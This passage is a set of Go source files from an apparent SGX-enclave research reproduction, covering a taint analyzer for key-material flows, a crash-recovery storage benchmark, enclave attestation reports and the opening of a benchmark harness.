	for i := len(r.cfg.blocks) - 1; i >= 0; i-- {
		work = append(work, r.cfg.blocks[i])
		queued.set(r.cfg.blocks[i].index)
	}
	for len(work) > 0 {
		blk := work[len(work)-1]
		work = work[:len(work)-1]
		queued[blk.index/64] &^= 1 << (blk.index % 64)
		out := r.in[blk.index].clone()
		for _, n := range blk.nodes {
			r.transfer(out, n)
		}
		for _, s := range blk.succs {
			if r.in[s.index].join(out) && !queued.has(s.index) {
				queued.set(s.index)
				work = append(work, s)
			}
		}
	}
}

// reportPass replays each reachable block once against its stable
// in-state, in block order for determinism, with reporting enabled.
func (r *taintRun) reportPass() {
	r.reporting = true
	reach := r.cfg.reachableFrom(r.cfg.entry)
	for _, blk := range r.cfg.blocks {
		if !reach.has(blk.index) {
			continue
		}
		st := r.in[blk.index].clone()
		for _, n := range blk.nodes {
			r.transfer(st, n)
		}
	}
	r.reporting = false
}

// inlineFuncLit analyzes a closure at its use site, sharing the
// caller's state: the body starts from the current state (captured
// variables keep their taint) and its effects on captured variables
// flow back by joining every reachable block's out-state. This is what
// makes the `Enclave.ECall(func() error { ... })` idiom transparent —
// work done inside the closure is visible to the code around it.
// Returns the closure's result masks.
func (r *taintRun) inlineFuncLit(st taintState, lit *ast.FuncLit) []taintMask {
	r.inlined[lit] = true
	inner := newTaintRun(r.hooks, buildCFG(lit.Body))
	inner.inlined = r.inlined // share so nested lits are marked too
	inner.fixpoint(st)
	if r.reporting {
		inner.reportPass()
	}
	reach := inner.cfg.reachableFrom(inner.cfg.entry)
	for _, blk := range inner.cfg.blocks {
		if !reach.has(blk.index) {
			continue
		}
		out := inner.in[blk.index].clone()
		for _, n := range blk.nodes {
			inner.transfer(out, n)
		}
		st.join(out)
	}
	return inner.returnMask
}

// transfer applies one CFG node to the state in place.
func (r *taintRun) transfer(st taintState, n ast.Node) {
	switch n := n.(type) {
	case *ast.AssignStmt:
		r.assign(st, n)
	case *ast.DeclStmt:
		if gd, ok := n.Decl.(*ast.GenDecl); ok {
			for _, spec := range gd.Specs {
				vs, ok := spec.(*ast.ValueSpec)
				if !ok {
					continue
				}
				for i, name := range vs.Names {
					var mask taintMask
					if len(vs.Values) == len(vs.Names) {
						mask = r.eval(st, vs.Values[i])
					} else if len(vs.Values) == 1 {
						mask = r.callResultMask(st, vs.Values[0], i)
					}
					r.setIdent(st, name, mask)
				}
			}
		}
	case *ast.RangeStmt:
		mask := r.eval(st, n.X)
		if n.Value != nil {
			if id, ok := n.Value.(*ast.Ident); ok {
				r.setIdent(st, id, mask)
			}
		}
		if n.Key != nil {
			// Map keys and indexes are not payload; only tainted for
			// string-keyed iteration over tainted maps — out of scope.
			if id, ok := n.Key.(*ast.Ident); ok && mask == 0 {
				r.setIdent(st, id, 0)
			}
		}
	case *ast.ReturnStmt:
		for i, res := range n.Results {
			mask := r.eval(st, res)
			for len(r.returnMask) <= i {
				r.returnMask = append(r.returnMask, 0)
			}
			r.returnMask[i] |= mask
		}
	case *ast.IncDecStmt:
		// No taint effect.
	case *ast.SendStmt:
		r.eval(st, n.Value)
	case *ast.ExprStmt:
		r.eval(st, n.X)
	case *ast.GoStmt:
		r.evalCall(st, n.Call)
	case *ast.DeferStmt:
		r.evalCall(st, n.Call)
	case ast.Expr:
		r.eval(st, n)
	case ast.Stmt:
		// Any other statement shape: evaluate the calls it contains so
		// sinks inside (e.g. an if-init) are still seen.
		ast.Inspect(n, func(x ast.Node) bool {
			if _, ok := x.(*ast.FuncLit); ok {
				return false
			}
			if call, ok := x.(*ast.CallExpr); ok {
				r.evalCall(st, call)
				return false
			}
			return true
		})
	}
}

// assign handles =, :=, +=-style statements.
func (r *taintRun) assign(st taintState, a *ast.AssignStmt) {
	if len(a.Rhs) == 1 && len(a.Lhs) > 1 {
		// Tuple assignment from one call.
		for i, lhs := range a.Lhs {
			r.store(st, lhs, r.callResultMask(st, a.Rhs[0], i))
		}
		return
	}
	for i, lhs := range a.Lhs {
		if i >= len(a.Rhs) {
			break
		}
		mask := r.eval(st, a.Rhs[i])
		if len(a.Lhs) == len(a.Rhs) && a.Tok.String() == "+=" {
			mask |= r.eval(st, lhs)
		}
		r.store(st, lhs, mask)
	}
}

// callResultMask evaluates result index i of a (possibly multi-result)
// RHS expression.
func (r *taintRun) callResultMask(st taintState, rhs ast.Expr, i int) taintMask {
	call, ok := ast.Unparen(rhs).(*ast.CallExpr)
	if !ok {
		return r.eval(st, rhs)
	}
	masks := r.callMasks(st, call)
	if i < len(masks) {
		return masks[i]
	}
	if len(masks) > 0 {
		return masks[0]
	}
	return 0
}

// store writes a mask to an lvalue: strong update for plain
// identifiers, weak (taint-only) update through fields, indexes and
// dereferences — assigning into x.f or x[i] taints the root x but
// clearing it never untaints the whole aggregate.
func (r *taintRun) store(st taintState, lhs ast.Expr, mask taintMask) {
	switch l := ast.Unparen(lhs).(type) {
	case *ast.Ident:
		r.setIdent(st, l, mask)
	default:
		if mask == 0 {
			return
		}
		if root := rootObj(r.hooks.pkg, lhs); root != nil {
			st[root] |= mask
		}
	}
}

func (r *taintRun) setIdent(st taintState, id *ast.Ident, mask taintMask) {
	if id.Name == "_" {
		return
	}
	obj := r.hooks.pkg.Info.Defs[id]
	if obj == nil {
		obj = r.hooks.pkg.Info.Uses[id]
	}
	if obj == nil {
		return
	}
	if mask == 0 {
		delete(st, obj)
	} else {
		st[obj] = mask
	}
}

// rootObj finds the base object of an lvalue/expression chain.
func rootObj(pkg *Package, e ast.Expr) types.Object {
	for {
		switch x := ast.Unparen(e).(type) {
		case *ast.Ident:
			if obj := pkg.Info.Uses[x]; obj != nil {
				return obj
			}
			return pkg.Info.Defs[x]
		case *ast.SelectorExpr:
			e = x.X
		case *ast.IndexExpr:
			e = x.X
		case *ast.SliceExpr:
			e = x.X
		case *ast.StarExpr:
			e = x.X
		case *ast.UnaryExpr:
			e = x.X
		case *ast.CallExpr, *ast.CompositeLit:
			return nil
		default:
			return nil
		}
	}
}

// eval computes the taint of an expression, firing sink checks for
// calls along the way.
func (r *taintRun) eval(st taintState, e ast.Expr) taintMask {
	if e == nil {
		return 0
	}
	switch x := ast.Unparen(e).(type) {
	case *ast.Ident:
		var mask taintMask
		if obj := r.identObj(x); obj != nil {
			mask = st[obj]
		}
		if m, override := r.hooks.exprTaint(x); override {
			return m
		} else {
			mask |= m
		}
		return mask
	case *ast.SelectorExpr:
		// Package qualifier: not a value.
		if pkgPathOf(r.hooks.pkg, x.X) != "" {
			return 0
		}
		if m, override := r.hooks.exprTaint(x); override {
			return m
		} else {
			var mask taintMask
			if sel := r.hooks.pkg.Info.Uses[x.Sel]; sel != nil {
				mask |= st[sel]
			}
			return mask | m | r.eval(st, x.X)
		}
	case *ast.IndexExpr:
		return r.eval(st, x.X)
	case *ast.SliceExpr:
		return r.eval(st, x.X)
	case *ast.StarExpr:
		return r.eval(st, x.X)
	case *ast.UnaryExpr:
		return r.eval(st, x.X)
	case *ast.BinaryExpr:
		return r.eval(st, x.X) | r.eval(st, x.Y)
	case *ast.CompositeLit:
		var mask taintMask
		for _, el := range x.Elts {
			if kv, ok := el.(*ast.KeyValueExpr); ok {
				mask |= r.eval(st, kv.Value)
			} else {
				mask |= r.eval(st, el)
			}
		}
		return mask
	case *ast.CallExpr:
		return r.evalCall(st, x)
	case *ast.TypeAssertExpr:
		return r.eval(st, x.X)
	case *ast.FuncLit, *ast.BasicLit, *ast.ArrayType, *ast.MapType,
		*ast.StructType, *ast.ChanType, *ast.InterfaceType, *ast.FuncType:
		return 0
	}
	return 0
}

func (r *taintRun) identObj(id *ast.Ident) types.Object {
	if obj := r.hooks.pkg.Info.Uses[id]; obj != nil {
		return obj
	}
	return r.hooks.pkg.Info.Defs[id]
}

// evalCall handles call expressions: conversions, builtins, sources,
// sanitizers, summaries, sinks, and the pure-transform allowlist. It
// returns the joined taint of the call's results.
func (r *taintRun) evalCall(st taintState, call *ast.CallExpr) taintMask {
	masks := r.callMasks(st, call)
	var out taintMask
	for _, m := range masks {
		out |= m
	}
	return out
}

// callMasks is evalCall returning per-result masks.
func (r *taintRun) callMasks(st taintState, call *ast.CallExpr) []taintMask {
	h := r.hooks
	pkg := h.pkg

	// Closure callees and callback arguments are inlined at the call
	// site: their bodies run against (and mutate) the caller's state,
	// so captured variables carry taint in and out.
	if lit, ok := ast.Unparen(call.Fun).(*ast.FuncLit); ok {
		for _, a := range call.Args {
			r.eval(st, a)
		}
		return r.inlineFuncLit(st, lit)
	}
	for _, a := range call.Args {
		if lit, ok := ast.Unparen(a).(*ast.FuncLit); ok {
			r.inlineFuncLit(st, lit)
		}
	}

	// Type conversion: taint flows through ([]byte(x), string(x)).
	if tv, ok := pkg.Info.Types[call.Fun]; ok && tv.IsType() {
		var m taintMask
		for _, a := range call.Args {
			m |= r.eval(st, a)
		}
		return []taintMask{m}
	}

	// Builtins.
	if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok {
		switch id.Name {
		case "append":
			var m taintMask
			for _, a := range call.Args {
				m |= r.eval(st, a)
			}
			return []taintMask{m}
		case "copy":
			if len(call.Args) == 2 {
				if m := r.eval(st, call.Args[1]); m != 0 {
					if root := rootObj(pkg, call.Args[0]); root != nil {
						st[root] |= m
					}
				}
			}
			return nil
		case "len", "cap", "make", "new", "delete", "clear", "min", "max":
			// Evaluate args for nested calls, result clean.
			for _, a := range call.Args {
				r.eval(st, a)
			}
			return nil
		case "panic", "print", "println":
			for _, a := range call.Args {
				r.eval(st, a)
			}
			return nil
		}
	}

	// Sanitizer: results are ciphertext no matter what went in. Args
	// still evaluate (nested calls may sink).
	if h.sanitizer != nil && h.sanitizer(call) {
		for _, a := range call.Args {
			r.eval(st, a)
		}
		return nil
	}

	// Source: fixed result masks.
	if h.sourceCall != nil {
		if masks := h.sourceCall(call); masks != nil {
			for _, a := range call.Args {
				r.eval(st, a)
			}
			return masks
		}
	}

	// Direct sink check. taintParam also counts: a parameter reaching
	// a sink is what makes the enclosing function a sink in its own
	// summary.
	if h.sink != nil {
		if accepts, desc := h.sink(call); accepts != 0 {
			for _, a := range call.Args {
				if m := r.eval(st, a); m&(accepts|taintParam) != 0 {
					r.reportSink(a, m, accepts, desc)
				}
			}
			// A sink consumes; its result (byte counts, errors) is
			// clean.
			return nil
		}
	}

	// Package-local callee: use its summary.
	var argMask taintMask
	for _, a := range call.Args {
		argMask |= r.eval(st, a)
	}
	if recv := callReceiver(call); recv != nil {
		argMask |= r.eval(st, recv)
	}
	if h.graph != nil {
		if callee := h.graph.resolve(call); callee != nil {
			sum := callee.summary
			if sum.sinkDesc != "" && argMask&(sum.sinkAccepts|taintParam) != 0 {
				// Report on the first offending argument for a stable
				// position.
				for _, a := range call.Args {
					if m := r.eval(st, a); m&(sum.sinkAccepts|taintParam) != 0 {
						r.reportSink(a, m, sum.sinkAccepts, sum.sinkDesc)
						break
					}
				}
			}
			if sum.seals {
				return nil
			}
			out := make([]taintMask, len(sum.resultTaint))
			copy(out, sum.resultTaint)
			if sum.propagates && argMask != 0 {
				if len(out) == 0 {
					out = []taintMask{0}
				}
				for i := range out {
					out[i] |= argMask
				}
			}
			return out
		}
	}

	// Pure-transform allowlist: formatting and byte/string plumbing
	// keeps taint alive; so does calling a method on a tainted
	// receiver (bytes.Buffer round trips).
	if argMask != 0 && isTaintPreservingCall(pkg, call) {
		return []taintMask{argMask}
	}
	if recv := callReceiver(call); recv != nil {
		if m := r.eval(st, recv); m != 0 {
			if sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr); ok && publicProjectionMethods[sel.Sel.Name] {
				// Projections that expose only public facts about a
				// secret (its public key, its length) do not carry the
				// secret.
				return nil
			}
			return []taintMask{m}
		}
	}
	return nil
}

// publicProjectionMethods are method names whose results expose only
// public facts about a tainted receiver, defusing receiver-taint
// propagation (priv.PublicKey().Bytes() is not key material).
var publicProjectionMethods = map[string]bool{
	"Public": true, "PublicKey": true, "Len": true, "Size": true,
	"Cap": true, "Count": true, "Err": true, "Error": true, "Close": true,
}

// reportSink forwards a confirmed flow during the report pass only.
func (r *taintRun) reportSink(arg ast.Expr, mask, accepts taintMask, desc string) {
	if !r.reporting || r.hooks.report == nil {
		return
	}
	r.hooks.report(arg, mask, accepts, desc)
}

// callReceiver returns the receiver expression of a method call, nil
// for package functions and plain calls.
func callReceiver(call *ast.CallExpr) ast.Expr {
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok {
		return nil
	}
	return sel.X
}

// taintPreservingFuncs are stdlib package functions through which
// argument taint survives into the result.
var taintPreservingFuncs = map[string]map[string]bool{
	"fmt":     {"Sprintf": true, "Sprint": true, "Sprintln": true, "Appendf": true, "Append": true},
	"bytes":   {"Join": true, "Clone": true, "TrimSpace": true, "ToLower": true, "ToUpper": true, "Repeat": true},
	"strings": {"Join": true, "Clone": true, "TrimSpace": true, "ToLower": true, "ToUpper": true, "Repeat": true},
	"hex":     {"EncodeToString": true, "AppendEncode": true},
	"base64":  {"EncodeToString": true},
}

func isTaintPreservingCall(pkg *Package, call *ast.CallExpr) bool {
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok {
		return false
	}
	path := pkgPathOf(pkg, sel.X)
	if path == "" {
		return false
	}
	base := path
	if j := lastSlash(path); j >= 0 {
		base = path[j+1:]
	}
	set, ok := taintPreservingFuncs[base]
	return ok && set[sel.Sel.Name]
}

func lastSlash(s string) int {
	for i := len(s) - 1; i >= 0; i-- {
		if s[i] == '/' {
			return i
		}
	}
	return -1
}

// summariseTaint fills the taint-related summary fields of every
// function in the graph, callee-first, using the supplied hooks. Two
// runs per function: one with clean parameters (detecting source-like
// results), one with parameter-marked state (detecting propagation and
// parameter sinks).
func summariseTaint(hooks *taintHooks, g *callGraph) {
	for _, n := range g.order {
		cfg := n.summary.cfg
		if cfg == nil {
			cfg = buildCFG(n.decl.Body)
			n.summary.cfg = cfg
		}

		// Run 0: no parameter taint. Return masks become resultTaint.
		local := *hooks
		local.graph = g
		local.report = nil
		run0 := runTaint(&local, cfg, nil)
		n.summary.resultTaint = append([]taintMask(nil), run0.returnMask...)
		for i, m := range n.summary.resultTaint {
			n.summary.resultTaint[i] = m &^ taintParam
		}

		// Run 1: parameters marked. Marks reaching a return mean the
		// function propagates; marks reaching a sink mean callers with
		// tainted arguments are sinking.
		entry := make(taintState)
		markParams(g.pkg, n.decl, entry)
		var sinkDesc string
		var sinkAccepts taintMask
		sr := *hooks
		sr.graph = g
		sr.report = func(arg ast.Expr, mask, accepts taintMask, desc string) {
			if mask&taintParam != 0 && sinkDesc == "" {
				sinkDesc = desc
				sinkAccepts = accepts
			}
		}
		run1 := runTaint(&sr, cfg, entry)
		for _, m := range run1.returnMask {
			if m&taintParam != 0 {
				n.summary.propagates = true
			}
		}
		if sinkDesc != "" {
			n.summary.sinkDesc = sinkDesc
			n.summary.sinkAccepts = sinkAccepts
		}

		// seals: single-result functions whose only return paths are
		// sanitizer results come out with no resultTaint and no
		// propagation — calling them is already safe. A stronger
		// "seals" mark is only needed when the summary must override a
		// name-based source; detect the common `return Seal(...)` tail
		// shape.
		n.summary.seals = sealsDirectly(hooks, g.pkg, n.decl)
	}
}

// markParams seeds parameter objects (and the receiver) with the
// synthetic parameter mark. Scalar parameters (ints, bools, floats —
// anything with a basic underlying type except string) are skipped: a
// version byte or a length cannot carry key material, and marking them
// turns every helper that mixes a scalar into a buffer into a false
// propagator. Parameters whose types did not resolve stay marked —
// fixture packages with missing imports err on the side of flow.
func markParams(pkg *Package, fd *ast.FuncDecl, st taintState) {
	add := func(fl *ast.FieldList) {
		if fl == nil {
			return
		}
		for _, f := range fl.List {
			for _, name := range f.Names {
				obj := pkg.Info.Defs[name]
				if obj == nil {
					continue
				}
				if t := obj.Type(); t != nil {
					if b, isBasic := t.Underlying().(*types.Basic); isBasic && b.Info()&types.IsString == 0 && b.Kind() != types.Invalid {
						continue
					}
				}
				st[obj] = taintParam
			}
		}
	}
	add(fd.Recv)
	add(fd.Type.Params)
}

// sealsDirectly reports the `func f(...) { ...; return Seal(...) }`
// shape: every return statement's first result is a sanitizer call (or
// an error-path nil/err pair).
func sealsDirectly(hooks *taintHooks, pkg *Package, fd *ast.FuncDecl) bool {
	if hooks.sanitizer == nil {
		return false
	}
	sealed := false
	ok := true
	ast.Inspect(fd.Body, func(x ast.Node) bool {
		if _, isLit := x.(*ast.FuncLit); isLit {
			return false
		}
		ret, isRet := x.(*ast.ReturnStmt)
		if !isRet || len(ret.Results) == 0 {
			return true
		}
		first := ast.Unparen(ret.Results[0])
		if call, isCall := first.(*ast.CallExpr); isCall && hooks.sanitizer(call) {
			sealed = true
			return true
		}
		if id, isIdent := first.(*ast.Ident); isIdent && id.Name == "nil" {
			return true // error path
		}
		ok = false
		return true
	})
	return sealed && ok
}
