// Package wire is the fixture stand-in for the untrusted wire layer.
package wire

// Frame is a placeholder symbol so the package is importable.
type Frame struct{}
