package bench

import (
	"fmt"
	"strings"
	"time"

	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/store"
)

// Persist exercises the log-structured storage engine end to end: a
// working set several times larger than the engine's in-memory budget
// is written through the Store under fsync-on-commit, the process is
// "kill -9"ed mid-load (Store.Crash: no flush, no sync), and the store
// is reopened from disk. The acceptance bar is total: every PUT that
// was acknowledged before the crash must be served after recovery.

// PersistConfig tunes the persistence benchmark.
type PersistConfig struct {
	// Records is the working-set size; default 1024 (256 in quick runs).
	Records int
	// BlobBytes is the per-record ciphertext size; default 1 KiB.
	BlobBytes int
	// MemtableBytes / CacheBytes are the engine's in-memory budgets;
	// defaults keep the working set >= 4x their sum.
	MemtableBytes int64
	CacheBytes    int64
	// Dir is the data directory; required.
	Dir string
}

// PersistPhase is the measured outcome of one phase.
type PersistPhase struct {
	Name      string  `json:"name"`
	Records   int     `json:"records"`
	Bytes     int64   `json:"bytes,omitempty"`
	ElapsedMS float64 `json:"elapsed_ms"`
	// Hits / Misses are set by the verify phases.
	Hits   int `json:"hits,omitempty"`
	Misses int `json:"misses,omitempty"`
	// Engine counters after the phase.
	WALBytes    int64 `json:"wal_bytes"`
	Flushes     int64 `json:"flushes"`
	Compactions int64 `json:"compactions"`
	Segments    int64 `json:"segments"`
	Replayed    int64 `json:"replayed,omitempty"`
	TornTails   int64 `json:"torn_tails,omitempty"`
}

// PersistResult is the full benchmark outcome.
type PersistResult struct {
	Phases []PersistPhase `json:"phases"`
	// WorkingSetBytes and BudgetBytes establish the beyond-RAM ratio.
	WorkingSetBytes int64   `json:"working_set_bytes"`
	BudgetBytes     int64   `json:"budget_bytes"`
	BudgetRatio     float64 `json:"budget_ratio"`
	// RecoveryMS is the reopen (segment load + WAL replay) time after
	// the crash.
	RecoveryMS float64 `json:"recovery_ms"`
	// CrashHitRate is the post-crash hit rate over acknowledged PUTs.
	CrashHitRate float64 `json:"crash_hit_rate"`
}

// Persist runs the crash-recovery benchmark and returns the
// measurements. It fails if any acknowledged PUT is lost.
func Persist(cfg PersistConfig) (*PersistResult, error) {
	if cfg.Records <= 0 {
		cfg.Records = 1024
	}
	if cfg.BlobBytes <= 0 {
		cfg.BlobBytes = 1 << 10
	}
	if cfg.MemtableBytes <= 0 {
		cfg.MemtableBytes = 64 << 10
	}
	if cfg.CacheBytes <= 0 {
		cfg.CacheBytes = 64 << 10
	}
	if cfg.Dir == "" {
		return nil, fmt.Errorf("persist: data directory required")
	}

	// A deterministic platform seed is the simulated analogue of fused
	// hardware keys: the reopened "machine" derives the same sealing
	// key, exactly as a rebooted SGX host would.
	seed := []byte("speed-persist-bench-machine")
	open := func() (*store.Store, enclave.Measurement, error) {
		platform := enclave.NewPlatform(enclave.Config{PlatformSeed: seed})
		enc, err := platform.Create("persist-store", []byte("persist store code"))
		if err != nil {
			return nil, enclave.Measurement{}, err
		}
		st, err := store.New(store.Config{
			Enclave:         enc,
			Engine:          store.EngineLog,
			DataDir:         cfg.Dir,
			MemtableBytes:   cfg.MemtableBytes,
			CacheBytes:      cfg.CacheBytes,
			Fsync:           "commit",
			CompactInterval: -1, // compaction is triggered explicitly below
			Telemetry:       registry,
		})
		if err != nil {
			return nil, enclave.Measurement{}, err
		}
		return st, enc.Measurement(), nil
	}

	st, owner, err := open()
	if err != nil {
		return nil, err
	}
	blob := make([]byte, cfg.BlobBytes)
	for i := range blob {
		blob[i] = byte(i)
	}
	tag := func(i int) mle.Tag {
		var t mle.Tag
		copy(t[:], fmt.Sprintf("persist-bench-tag-%08d", i))
		return t
	}
	put := func(st *store.Store, i int) error {
		sealed := mle.Sealed{
			Challenge:  []byte(fmt.Sprintf("challenge-%06d", i)),
			WrappedKey: []byte(fmt.Sprintf("wrapkey--%06d", i)),
			Blob:       blob,
		}
		installed, err := st.Put(owner, tag(i), sealed)
		if err != nil {
			return fmt.Errorf("put %d: %w", i, err)
		}
		if !installed {
			return fmt.Errorf("put %d: duplicate on a fresh tag", i)
		}
		return nil
	}
	phase := func(name string, st *store.Store, records int, bytes int64, elapsed time.Duration) PersistPhase {
		es := st.EngineStats()
		return PersistPhase{
			Name: name, Records: records, Bytes: bytes,
			ElapsedMS:   float64(elapsed.Microseconds()) / 1000,
			WALBytes:    es.WALBytes,
			Flushes:     es.Flushes,
			Compactions: es.Compactions,
			Segments:    int64(es.Segments),
			Replayed:    es.Replayed,
			TornTails:   es.TornTails,
		}
	}

	res := &PersistResult{
		WorkingSetBytes: int64(cfg.Records) * int64(cfg.BlobBytes),
		BudgetBytes:     cfg.MemtableBytes + cfg.CacheBytes,
	}
	res.BudgetRatio = float64(res.WorkingSetBytes) / float64(res.BudgetBytes)

	// Phase 1: load the first 60% under fsync-on-commit. Every one of
	// these PUTs was acknowledged, so every one must survive the crash.
	acked := cfg.Records * 6 / 10
	start := time.Now()
	for i := 0; i < acked; i++ {
		if err := put(st, i); err != nil {
			return nil, err
		}
	}
	res.Phases = append(res.Phases,
		phase("load (pre-crash)", st, acked, int64(acked)*int64(cfg.BlobBytes), time.Since(start)))

	// Kill -9: no flush, no WAL sync beyond what commit already did.
	st.Crash()

	// Phase 2: recovery — segment load plus WAL replay of everything
	// after the last flush.
	start = time.Now()
	st, _, err = open()
	if err != nil {
		return nil, fmt.Errorf("reopen after crash: %w", err)
	}
	recovery := time.Since(start)
	res.RecoveryMS = float64(recovery.Microseconds()) / 1000
	res.Phases = append(res.Phases, phase("recover", st, st.Len(), 0, recovery))

	// Phase 3: verify every acknowledged PUT.
	start = time.Now()
	hits := 0
	for i := 0; i < acked; i++ {
		if _, found, err := st.Get(tag(i)); err != nil {
			return nil, fmt.Errorf("post-crash get %d: %w", i, err)
		} else if found {
			hits++
		}
	}
	vp := phase("verify (post-crash)", st, acked, 0, time.Since(start))
	vp.Hits, vp.Misses = hits, acked-hits
	res.Phases = append(res.Phases, vp)
	res.CrashHitRate = float64(hits) / float64(acked)
	if hits != acked {
		return res, fmt.Errorf("persist: lost %d of %d acknowledged PUTs after crash", acked-hits, acked)
	}

	// Phase 4: load the rest of the working set and compact, pushing
	// well past the in-memory budget.
	start = time.Now()
	for i := acked; i < cfg.Records; i++ {
		if err := put(st, i); err != nil {
			return nil, err
		}
	}
	if err := st.Checkpoint(); err != nil {
		return nil, fmt.Errorf("checkpoint: %w", err)
	}
	if err := st.Compact(); err != nil {
		return nil, fmt.Errorf("compact: %w", err)
	}
	res.Phases = append(res.Phases,
		phase("load (post-crash)", st, cfg.Records-acked, int64(cfg.Records-acked)*int64(cfg.BlobBytes), time.Since(start)))

	// Phase 5: clean shutdown and reopen — no WAL replay expected —
	// then verify the full working set from segments.
	st.Close()
	start = time.Now()
	st, _, err = open()
	if err != nil {
		return nil, fmt.Errorf("reopen after close: %w", err)
	}
	defer st.Close()
	reopen := time.Since(start)
	res.Phases = append(res.Phases, phase("clean reopen", st, st.Len(), 0, reopen))

	start = time.Now()
	hits = 0
	for i := 0; i < cfg.Records; i++ {
		if _, found, err := st.Get(tag(i)); err != nil {
			return nil, fmt.Errorf("final get %d: %w", i, err)
		} else if found {
			hits++
		}
	}
	fp := phase("verify (full set)", st, cfg.Records, 0, time.Since(start))
	fp.Hits, fp.Misses = hits, cfg.Records-hits
	res.Phases = append(res.Phases, fp)
	if hits != cfg.Records {
		return res, fmt.Errorf("persist: clean reopen lost %d of %d records", cfg.Records-hits, cfg.Records)
	}
	return res, nil
}

// RenderPersist formats the phase table plus the acceptance summary.
func RenderPersist(res *PersistResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Persistent log engine: %d KiB working set over a %d KiB in-memory budget (%.1fx), fsync-on-commit\n",
		res.WorkingSetBytes>>10, res.BudgetBytes>>10, res.BudgetRatio)
	fmt.Fprintf(&b, "  %-20s %8s %9s %10s %8s %8s %9s %9s\n",
		"phase", "records", "elapsed", "wal_bytes", "flushes", "compact", "segments", "replayed")
	for _, p := range res.Phases {
		fmt.Fprintf(&b, "  %-20s %8d %8.1fms %10d %8d %8d %9d %9d\n",
			p.Name, p.Records, p.ElapsedMS, p.WALBytes, p.Flushes, p.Compactions, p.Segments, p.Replayed)
	}
	fmt.Fprintf(&b, "  recovery after kill -9: %.1fms\n", res.RecoveryMS)
	fmt.Fprintf(&b, "  acknowledged PUTs recovered: %.1f%% (want 100%%)\n", 100*res.CrashHitRate)
	return b.String()
}
