package enclave

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"errors"

	"speed/internal/mle"
)

// Report is a local attestation report, analogous to the structure
// produced by SGX's EREPORT instruction. It binds the reporting
// enclave's measurement and 64 bytes of caller-chosen report data to a
// MAC that only enclaves on the same platform can verify.
type Report struct {
	// Measurement identifies the reporting enclave's code.
	Measurement Measurement
	// Target is the measurement of the enclave the report is destined
	// for; the MAC key is bound to it, so only that enclave (on the
	// same platform) verifies successfully.
	Target Measurement
	// Data carries caller-supplied bytes, typically a key-exchange
	// public key, so the channel is bound to the attested identity.
	Data [64]byte
	// MAC authenticates the three fields above.
	MAC [32]byte
}

// ErrAttestation is returned when a report fails verification.
var ErrAttestation = errors.New("enclave: attestation report verification failed")

// Report produces a local attestation report destined for the enclave
// with the given target measurement, embedding data (up to 64 bytes).
func (e *Enclave) Report(target Measurement, data []byte) Report {
	r := Report{Measurement: e.measurement, Target: target}
	copy(r.Data[:], data)
	key := e.platform.deriveKey("report", target)
	defer mle.Zeroize(key[:])
	r.MAC = reportMAC(key, r)
	return r
}

// VerifyReport checks that the report was produced on this platform and
// destined for this enclave. On success the caller may trust
// r.Measurement and r.Data.
func (e *Enclave) VerifyReport(r Report) error {
	if r.Target != e.measurement {
		return ErrAttestation
	}
	key := e.platform.deriveKey("report", e.measurement)
	defer mle.Zeroize(key[:])
	want := reportMAC(key, r)
	if !hmac.Equal(want[:], r.MAC[:]) {
		return ErrAttestation
	}
	return nil
}

func reportMAC(key [32]byte, r Report) [32]byte {
	mac := hmac.New(sha256.New, key[:])
	mac.Write(r.Measurement[:])
	mac.Write(r.Target[:])
	mac.Write(r.Data[:])
	var out [32]byte
	copy(out[:], mac.Sum(nil))
	return out
}

// Marshal serialises the report into a fixed 160-byte wire form.
func (r Report) Marshal() []byte {
	buf := make([]byte, 0, 32+32+64+32)
	buf = append(buf, r.Measurement[:]...)
	buf = append(buf, r.Target[:]...)
	buf = append(buf, r.Data[:]...)
	buf = append(buf, r.MAC[:]...)
	return buf
}

// UnmarshalReport parses the wire form produced by Marshal.
func UnmarshalReport(b []byte) (Report, error) {
	var r Report
	if len(b) != 32+32+64+32 {
		return r, errors.New("enclave: malformed report")
	}
	rd := bytes.NewReader(b)
	readFull := func(dst []byte) { _, _ = rd.Read(dst) }
	readFull(r.Measurement[:])
	readFull(r.Target[:])
	readFull(r.Data[:])
	readFull(r.MAC[:])
	return r, nil
}
