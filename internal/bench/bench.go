// Package bench is the experiment harness that regenerates every table
// and figure of the paper's evaluation (Section V):
//
//	Table I    — cryptographic operation latency vs input size
//	Fig. 5a-d  — relative running time of the four applications
//	             (baseline, initial computation, subsequent computation)
//	Fig. 6     — ResultStore GET/PUT throughput with and without SGX
//
// plus the ablations called out in DESIGN.md. Absolute numbers differ
// from the paper (software enclave simulator vs Xeon E3-1505 v5 with
// real SGX), but the shapes — who wins, by what order of magnitude,
// and where overheads appear — are the reproduction target.
package bench

import (
	"crypto/rand"
	"fmt"
	"sort"
	"time"

	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/store"
	"speed/internal/telemetry"
)

// registry, when set with SetTelemetry, is threaded into every
// deployment the harness builds, so one registry accumulates phase
// histograms and counters across all experiments of a run (the
// registrations are idempotent and the func-backed counters sum over
// environments).
var registry *telemetry.Registry

// SetTelemetry makes all subsequently created benchmark environments
// report into reg. Pass nil to disable (the default).
func SetTelemetry(reg *telemetry.Registry) { registry = reg }

// env bundles one application + store deployment for measurements.
type env struct {
	platform *enclave.Platform
	appEnc   *enclave.Enclave
	storeEnc *enclave.Enclave
	store    *store.Store
	runtime  *dedup.Runtime
}

// newEnv builds a fresh deployment. withSGX toggles simulated
// transition/paging costs (true reproduces the paper's SGX machines).
func newEnv(withSGX bool) (*env, error) {
	platform := enclave.NewPlatform(enclave.Config{SimulateCosts: withSGX})
	appEnc, err := platform.Create("bench-app", []byte("bench app code"))
	if err != nil {
		return nil, err
	}
	storeEnc, err := platform.Create("bench-store", []byte("bench store code"))
	if err != nil {
		return nil, err
	}
	st, err := store.New(store.Config{Enclave: storeEnc, Telemetry: registry})
	if err != nil {
		return nil, err
	}
	rt, err := dedup.NewRuntime(dedup.Config{
		Enclave:   appEnc,
		Client:    dedup.NewLocalClient(st, appEnc.Measurement()),
		Logf:      func(string, ...any) {},
		Telemetry: registry,
	})
	if err != nil {
		return nil, err
	}
	return &env{
		platform: platform,
		appEnc:   appEnc,
